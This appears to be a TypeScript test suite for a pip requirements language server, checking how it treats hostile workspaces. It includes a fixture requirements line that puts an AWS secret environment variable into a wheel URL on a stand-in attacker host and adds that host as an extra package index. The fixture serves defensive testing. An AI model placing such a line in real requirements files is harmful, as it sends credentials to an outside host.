// The hostile-workspace suite, network half, through the built language server over stdio: a client that does not say
// the workspace is trusted gets an untrusted analysis (no URL or index a workspace file names is contacted, each such
// line says so); a trusted one expands `${VAR}` where pip does but shows URLs as written.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { LspClient } from '../helpers/lsp-client';
import { isolatedPipEnv, startPackageIndex, type PackageIndex } from '../helpers/package-index';
import { startRecordingServer, type RecordingServer } from '../helpers/recording-server';

const SECRET = 'aws-secret-value-0123456789';

describe('language server on a hostile workspace: the network', () => {
  let pkgs: PackageIndex;
  let user: RecordingServer;
  let attacker: RecordingServer;
  let root: string;
  const clients: LspClient[] = [];

  before(async () => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'sd-server-trust-net-'));
    pkgs = await startPackageIndex([{ name: 'tiny', version: '1.0' }]);
    user = await startRecordingServer({ forward: new URL(pkgs.url).origin });
    attacker = await startRecordingServer();
  });
  after(async () => {
    await Promise.all(clients.map((c) => c.shutdown()));
    await Promise.all([pkgs.close(), user.close(), attacker.close()]);
    fs.rmSync(root, { recursive: true, force: true });
  });

  /** A server over a fresh folder holding `text` as requirements.txt; `trusted` as the client sends it. */
  const session = async (trusted: boolean | undefined, text: string) => {
    const dir = fs.mkdtempSync(path.join(root, 'ws-'));
    const client = new LspClient(path.resolve('dist/server.js'), {
      ...isolatedPipEnv(),
      AWS_SECRET_ACCESS_KEY: SECRET,
      NETRC: path.join(dir, 'no-netrc'),
    });
    clients.push(client);
    await client.initialize(dir, {
      ...(trusted === undefined ? {} : { trusted }),
      debounceMs: 0,
      indexDebounceMs: 0,
      indexUrl: `${user.origin}/simple`,
      cacheDir: path.join(dir, '.cache'),
    });
    const file = path.join(dir, 'requirements.txt');
    const body = text.replaceAll('http://ATTACKER', attacker.origin);
    fs.writeFileSync(file, body);
    return { client, file, uri: pathToFileURL(file).toString(), body };
  };
  const HOSTILE =
    `x @ http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl\n` +
    `--extra-index-url http://ATTACKER/simple\ntiny\n`;

  for (const trusted of [false, undefined]) {
    it(`trusted: ${trusted}: no host the workspace names is contacted, and the URL line says why`, async () => {
      attacker.requests.length = 0;
      const { client, file, uri, body } = await session(trusted, HOSTILE);
      const pub = client.waitFor(
        uri,
        (p) => p.diagnostics.some((d) => /not checked in an untrusted workspace/i.test(d.message)),
        20_000,
      );
      client.open(file, body);
      const got = await pub;
      const line = got.diagnostics.find((d) => /untrusted workspace/.test(d.message))!;
      assert.equal(line.range.start.line, 0);
      assert.deepEqual(attacker.requests, []);
      assert.ok(!user.transcript().includes(SECRET));
    });
  }

  it('trusted: true: the URL is fetched as pip would, and diagnostics show it as written', async () => {
    attacker.requests.length = 0;
    const { client, file, uri, body } = await session(true, HOSTILE);
    const pub = client.waitFor(uri, (p) => p.diagnostics.some((d) => d.code === 'index-unreachable'), 20_000);
    client.open(file, body);
    const got = await pub;
    assert.ok(
      attacker.requests.some((q) => q.path.includes(SECRET)),
      'a trusted requirements file is expanded',
    );
    const text = JSON.stringify(got.diagnostics);
    assert.ok(!text.includes(SECRET), text);
    assert.match(text, /\$\{AWS_SECRET_ACCESS_KEY\}/);
  });
});
